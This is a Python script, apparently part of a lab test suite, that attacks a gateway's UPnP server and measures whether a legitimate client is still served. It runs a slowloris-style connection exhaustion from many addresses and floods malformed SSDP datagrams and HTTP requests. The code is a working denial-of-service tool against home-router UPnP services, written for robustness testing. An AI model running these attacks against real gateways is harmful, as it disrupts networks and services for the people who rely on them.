"""Run inside a LAN host namespace: attack the gateway's UPnP server from many addresses and
count what one other address still gets. Standard library only; prints one JSON line.

    python upnp_attack.py slowloris GATEWAY CLIENT ATTACKER... --per-address 8 --rounds 40 \
        --half head|body
    python upnp_attack.py garbage GATEWAY CLIENT --datagrams 2000 --requests 200

Every loop is bounded (rounds, counts, timeouts) and ends by itself; traffic goes only to
GATEWAY, an address of the lab the test built.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import re
import socket

SSDP_PORT = 1900
SEARCH = (
    'M-SEARCH * HTTP/1.1\r\nHOST: {gateway}:1900\r\nMAN: "ssdp:discover"\r\n'
    "ST: urn:schemas-upnp-org:device:InternetGatewayDevice:2\r\nMX: 1\r\n\r\n"
)
WANIP2 = "urn:schemas-upnp-org:service:WANIPConnection:2"
ENVELOPE = (
    '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
    's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
    f'<u:GetExternalIPAddress xmlns:u="{WANIP2}"/></s:Body></s:Envelope>'
)
TIMEOUT = 3.0  # seconds for one answer


def discover(gateway: str, client: str) -> tuple[int, str]:
    """The HTTP port and WANIPConnection:2 control path, from a unicast search and the
    description it points to."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((client, 0))
        sock.settimeout(TIMEOUT)
        sock.sendto(SEARCH.format(gateway=gateway).encode(), (gateway, SSDP_PORT))
        answer = sock.recv(4096).decode()
    location = re.search(r"(?im)^LOCATION:\s*http://[^:/]+:(\d+)(/\S*)", answer)
    assert location is not None, answer
    port, path = int(location.group(1)), location.group(2)
    with socket.create_connection((gateway, port), TIMEOUT, source_address=(client, 0)) as conn:
        conn.sendall(
            f"GET {path} HTTP/1.1\r\nHost: {gateway}:{port}\r\nConnection: close\r\n\r\n".encode()
        )
        description = b""
        while chunk := conn.recv(65536):
            description += chunk
    services = re.findall(rb"<service>(.*?)</service>", description, re.S)
    control = next(
        re.search(rb"<controlURL>(.*?)</controlURL>", s).group(1).decode()  # type: ignore[union-attr]
        for s in services
        if WANIP2.encode() in s
    )
    return port, control


async def ask(gateway: str, port: int, control: str, client: str) -> bool:
    """One GetExternalIPAddress on a fresh connection: whether it was answered."""
    body = ENVELOPE.encode()
    head = (
        f"POST {control} HTTP/1.1\r\nHost: {gateway}:{port}\r\n"
        'Content-Type: text/xml; charset="utf-8"\r\n'
        f'SOAPACTION: "{WANIP2}#GetExternalIPAddress"\r\n'
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode()
    try:
        async with asyncio.timeout(TIMEOUT):
            reader, writer = await asyncio.open_connection(gateway, port, local_addr=(client, 0))
            try:
                writer.write(head + body)
                answer = await reader.read()
            finally:
                writer.close()
    except (OSError, TimeoutError):
        return False
    return answer.startswith(b"HTTP/1.1 200") and b"NewExternalIPAddress" in answer


async def hold(gateway: str, port: int, address: str, prefix: bytes, held: list[int]) -> None:
    """One slot of the attack: half a request, sent again as soon as it is closed."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(gateway, port, local_addr=(address, 0))
        except OSError:
            await asyncio.sleep(0.05)
            continue
        held[0] += 1
        try:
            writer.write(prefix)
            await reader.read()
        except OSError:
            pass
        finally:
            held[0] -= 1
            writer.close()
        await asyncio.sleep(0.05)  # the attack's own reconnection rate, bounded


async def slowloris(args: argparse.Namespace) -> dict[str, int]:
    port, control = discover(args.gateway, args.client)
    host = f"Host: {args.gateway}:{port}\r\n"
    if args.half == "head":
        prefix = f"GET / HTTP/1.1\r\n{host}X-Slow: ".encode()
    else:  # a complete control request whose body never comes
        prefix = (
            f"POST {control} HTTP/1.1\r\n{host}Content-Type: text/xml\r\n"
            f'SOAPACTION: "{WANIP2}#GetExternalIPAddress"\r\nContent-Length: 16000\r\n\r\n<?xml'
        ).encode()
    held = [0]
    attack = [
        asyncio.create_task(hold(args.gateway, port, address, prefix, held))
        for address in args.attackers
        for _ in range(args.per_address)
    ]
    try:
        await asyncio.sleep(args.settle)
        held_before = held[0]
        served = 0
        for _ in range(args.rounds):
            served += await ask(args.gateway, port, control, args.client)
        return {"served": served, "rounds": args.rounds, "held": held_before}
    finally:
        for task in attack:
            task.cancel()
        await asyncio.gather(*attack, return_exceptions=True)


BAD_REQUESTS = [
    b"GET /\x00 HTTP/1.1\r\n\r\n",
    b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03",
    b"GET / HTTP/9.9\r\n\r\n",
    b"GET / HTTP/1.1\r\nBad Header\r\n\r\n",
]


async def garbage(args: argparse.Namespace) -> dict[str, int]:
    port, control = discover(args.gateway, args.client)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((args.client, 0))
        bad = 'M-SEARCH * HTTP/1.1\r\nMAN: "ssdp:discover"\r\nST: ssdp:all\r\nMX: \u00b2\r\n\r\n'
        for i in range(args.datagrams):
            sock.sendto(bad.encode(), (args.gateway, SSDP_PORT))
            if i % 100 == 99:
                await asyncio.sleep(0.01)
    for i in range(args.requests):
        try:
            reader, writer = await asyncio.open_connection(
                args.gateway, port, local_addr=(args.client, 0)
            )
            writer.write(BAD_REQUESTS[i % len(BAD_REQUESTS)])
            async with asyncio.timeout(TIMEOUT):
                await reader.read()
            writer.close()
        except (OSError, TimeoutError):
            pass
    served = sum([await ask(args.gateway, port, control, args.client) for _ in range(3)])
    return {"served": served, "rounds": 3}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=["slowloris", "garbage"])
    parser.add_argument("gateway")
    parser.add_argument("client")
    parser.add_argument("attackers", nargs="*")
    parser.add_argument("--per-address", type=int, default=8)
    parser.add_argument("--half", choices=["head", "body"], default="head")
    parser.add_argument("--rounds", type=int, default=40)
    parser.add_argument("--settle", type=float, default=2.0)
    parser.add_argument("--datagrams", type=int, default=2000)
    parser.add_argument("--requests", type=int, default=200)
    args = parser.parse_args()
    run = slowloris if args.mode == "slowloris" else garbage
    print(json.dumps(asyncio.run(run(args))), flush=True)


if __name__ == "__main__":
    main()
